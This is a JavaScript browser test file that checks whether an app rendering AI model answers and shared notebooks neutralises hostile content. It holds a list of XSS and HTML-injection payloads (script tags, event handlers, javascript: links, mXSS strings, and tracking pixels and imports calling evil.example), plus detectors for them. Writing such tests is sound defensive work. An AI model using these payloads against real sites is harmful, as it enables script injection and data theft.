// Answers, files and names from strangers are shown, never obeyed. The checks of App for every test
// (no dialog, no foreign request, no error) are the heart of these.
import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'
import { App, closeBrowser } from './lib/app.mjs'
import { mock } from './lib/provider.mjs'
import { notebookText } from './lib/world.mjs'

const mark = 'window.__owned = true; alert(1)'

/** Each tries to run a script, to load something, or to leave the page. */
const attacks = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}"><script>${mark}</script></svg>`,
  `<svg><animate onbegin="${mark}" attributeName=x dur=1s></svg>`,
  `<iframe src="javascript:${mark}"></iframe><iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<object data="http://evil.example/x"></object><embed src="http://evil.example/y">`,
  `[click](javascript:${encodeURIComponent(mark)}) [data](data:text/html,<script>${mark}</script>)`,
  `![track](http://evil.example/pixel.png?secret) ![](//evil.example/other.png)`,
  `<a href="javascript:${mark}" autofocus onfocus="${mark}">x</a>`,
  `<form action="http://evil.example/"><input autofocus onfocus="${mark}"><button>Send</button></form>`,
  `<style>@import "http://evil.example/a.css"; body { background: url(http://evil.example/b.png) }</style>`,
  `<link rel=stylesheet href="http://evil.example/c.css"><base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<div style="position:fixed;inset:0;background:url(http://evil.example/d.png);z-index:99999">over all</div>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
  '```html\n<script>' + mark + '</script>\n```',
  '`<img src=x onerror=' + mark + '>`',
  `$\\href{javascript:${mark}}{x}$ $\\includegraphics{http://evil.example/e.png}$ $$\\htmlData{x=y}{z}$$`,
  `<video src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${mark}">x</details><marquee onstart="${mark}">x</marquee>`,
  `</div></div></main><h1>out of the frame</h1>`,
  `| a | b |\n| --- | --- |\n| <img src=x onerror="${mark}"> | [x](vbscript:msgbox) |`,
  `\u202Egnp.exe and \u0000 and \u001b[31m and ${'﷽'.repeat(20)}`,
  `<textarea><img src=x onerror=${mark}>`,
  '#'.repeat(5000) + ' '.repeat(3) + '['.repeat(5000),
]

async function harmless(app, page = app.page) {
  // Anything due on load, on focus or by a timer has had its time: all pictures have loaded or failed.
  await page.waitForFunction(() => [...document.images].every((i) => i.complete))
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
  assert.equal(await page.evaluate(() => window.__owned), undefined)
  assert.equal(new URL(page.url()).origin, app.server.origin, 'still on its own page')
  assert.deepEqual(
    await page.evaluate(() => {
      const answer = [...document.querySelectorAll('.answer')]
      const inside = (css) => answer.flatMap((a) => [...a.querySelectorAll(css)])
      return {
        elements: inside('script, iframe, object, embed, form, style, link, base, meta, video, audio').map((e) =>
          e.outerHTML.slice(0, 200),
        ),
        handlers: inside('*').flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`)),
        links: inside('a[href]')
          .map((a) => a.getAttribute('href'))
          .filter((h) => /^\s*(javascript|data|vbscript):/i.test(h)),
      }
    }),
    { elements: [], handlers: [], links: [] },
  )
}

describe('hostile content', { timeout: 1_200_000 }, () => {
  after(closeBrowser)

  test('an answer from a model', async (t) => {
    const provider = await mock()
    attacks.forEach((attack, i) => provider.server.onMessage(`attack-${i}.`, { content: `Start ${i}\n\n${attack}\n\nEnd ${i}` }))
    t.after(() => provider.stop())
    const app = await App.start(t, { env: provider.env })
    await app.newAgent()
    for (let i = 0; i < attacks.length; i++) {
      await app.ask(`attack-${i}.`)
      await app.until(async () => (await app.answerText()).includes(`Start ${i}`), `answer ${i}`)
      await harmless(app)
    }
  })

  test('a notebook from somebody else', async (t) => {
    const cells = attacks.map((attack, i) => [`${i} ${attack}`, attack])
    const app = await App.start(t, { files: { '.mutsumi/x.mtm': notebookText(`<img src=x onerror="${mark}">`, cells) } })
    await app.page.getByRole('treeitem').first().click()
    await app.prompt().waitFor()
    for (let i = 0; i < 40; i++) {
      await harmless(app)
      await app.page.mouse.move(700, 400)
      await app.page.mouse.wheel(0, 600)
    }
    await harmless(app)
  })

  test('a link of an answer is not followed in the page', async (t) => {
    const provider = await mock({ link: 'Read [this](http://evil.example/page) and <http://evil.example/auto>.' })
    t.after(() => provider.stop())
    const app = await App.start(t, { env: provider.env })
    await app.context.route(/evil\.example/, (route) => route.fulfill({ status: 200, body: 'evil' }))
    await app.newAgent()
    await app.ask('link')
    assert.equal(new URL(app.page.url()).origin, app.server.origin)
    const link = app.answers().last().getByRole('link', { name: 'this' })
    assert.match((await link.getAttribute('rel')) ?? '', /noopener|noreferrer/)
    assert.equal(await app.page.evaluate(() => document.referrer), '')
  })
})
